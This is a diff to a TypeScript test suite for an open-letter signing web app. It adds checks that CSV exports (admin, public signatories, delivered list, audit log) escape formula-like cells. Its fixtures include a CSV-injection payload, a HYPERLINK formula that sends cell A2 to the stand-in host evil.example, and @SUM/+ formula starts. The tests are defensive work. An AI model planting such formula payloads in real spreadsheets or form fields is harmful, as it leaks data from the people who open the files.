@@ -224,14 +224,20 @@ describe('publishing and moderation', () => {
 
 describe('exports', () => {
   let cookie: string;
+  // The form now refuses a name or statement that starts like a formula, so these stand for
+  // entries stored before that rule: every CSV must still escape them, line breaks and all.
   const hostile = [
-    { organization: '=HYPERLINK("https://evil.example","Click")', statement: '+1 and @SUM(1+1)' },
-    { organization: 'Say "hello", friends', statement: 'Line one\nline two' },
-    { organization: 'Правозащитное бюро «Әділ сөз»', statement: '-2+3, қазақша, ҚҰРМЕТ' },
+    { organization: '=HYPERLINK("https://evil.example/?"&A2,\n"Open")', statement: '+1 and @SUM(1+1)\r\nsecond line' },
+    { organization: 'Say "hello", friends', statement: 'Line one\n=line two' },
+    { organization: 'Правозащитное бюро «Әділ сөз»', statement: '-2+3, қазақша,\nҚҰРМЕТ' },
   ];
   beforeAll(async () => {
     cookie = await signInAs(server, smtp, 'second@campaign.example');
-    for (const [index, values] of hostile.entries()) await signAndConfirm(server, smtp, signUp({ ...values, email: `hostile${index}@csv${index}.kz`, website: `csv${index}.kz` }));
+    for (const [index, values] of hostile.entries()) {
+      const email = `hostile${index}@csv${index}.kz`;
+      await signAndConfirm(server, smtp, signUp({ organization: `Export Test ${index}`, email, website: `csv${index}.kz` }));
+      query(server.databasePath, 'update signatures set organization = ?, statement = ? where email = ?', values.organization, values.statement, email);
+    }
   });
 
   it('give a CSV that spreadsheets open safely and a parser reads back exactly', async () => {
@@ -247,6 +253,13 @@ describe('exports', () => {
     expect(rows.map((row) => row.organization)).toEqual([`'${hostile[0]!.organization}`, hostile[1]!.organization, hostile[2]!.organization]);
     expect(rows.map((row) => row.statement)).toEqual([`'${hostile[0]!.statement}`, hostile[1]!.statement, `'${hostile[2]!.statement}`]);
     expect(rows[0]!.email).toBe('hostile0@csv0.kz');
+  });
+
+  it('give a public signatories.csv that escapes the same cells, line breaks and all', async () => {
+    const rows = parseCsv(await (await server.fetch(`/letters/${letterSlug}/signatories.csv`)).text(), { bom: true, columns: true }) as Record<string, string>[];
+    const published = rows.filter((row) => hostile.some((values) => row.organization?.endsWith(values.organization)));
+    expect(published.map((row) => row.organization)).toEqual([`'${hostile[0]!.organization}`, hostile[1]!.organization, hostile[2]!.organization]);
+    expect(published.map((row) => row.statement)).toEqual([`'${hostile[0]!.statement}`, hostile[1]!.statement, `'${hostile[2]!.statement}`]);
   });
 
   it('give JSON, and a text block to paste under the letter in its language', async () => {
@@ -286,6 +299,9 @@ describe('delivering the letter', () => {
     const delivered = await (await server.fetch(`/letters/${letterSlug}/delivered.csv`)).text();
     expect(recomputed(delivered)).toEqual({ fingerprint: shown, entries: listed.length, mismatched: 0 });
     expect(delivered).toContain('Open Letter Society');
+    // The frozen list escapes a cell that starts like a formula, line break and all (see "exports").
+    const frozen = parseCsv(delivered, { bom: true, columns: true }) as Record<string, string>[];
+    expect(frozen.find((row) => row.organization?.includes('HYPERLINK'))?.organization).toBe('\'=HYPERLINK("https://evil.example/?"&A2,\n"Open")');
     expect(textOf(letterPage, '.delivery')).toContain('The Presidential Administration');
     expect(textOf(letterPage, '.letter-status')).toBe('Delivered to the recipients on 2 November 2026');
     expect(letterPage).not.toContain('class="sign-form"');
@@ -342,7 +358,11 @@ describe('the audit log', () => {
 
     const cookie = await signInAs(server, smtp, 'fifth@campaign.example');
     expect((await getAs(server, cookie, '/admin/audit/')).text).toContain('impersonation');
-    const csv = parseCsv(await (await server.fetch('/admin/audit.csv', { headers: { Cookie: cookie } })).text(), { bom: true, columns: true }) as { action: string }[];
+    // A note that starts like a formula, across two lines (the audit log takes any note staff type).
+    const note = '=HYPERLINK("https://evil.example/?"&A2,\n"Open")';
+    query(server.databasePath, "insert into audit_log (at, staff, action, signature_ids, note) values (?, 'fifth@campaign.example', 'note-test', '[]', ?)", Date.now(), note);
+    const csv = parseCsv(await (await server.fetch('/admin/audit.csv', { headers: { Cookie: cookie } })).text(), { bom: true, columns: true }) as { action: string; note: string }[];
     expect(csv.map((row) => row.action)).toEqual(expect.arrayContaining(['hide', 'deliver', 'purge']));
+    expect(csv.find((row) => row.action === 'note-test')?.note).toBe(`'${note}`);
   });
 });
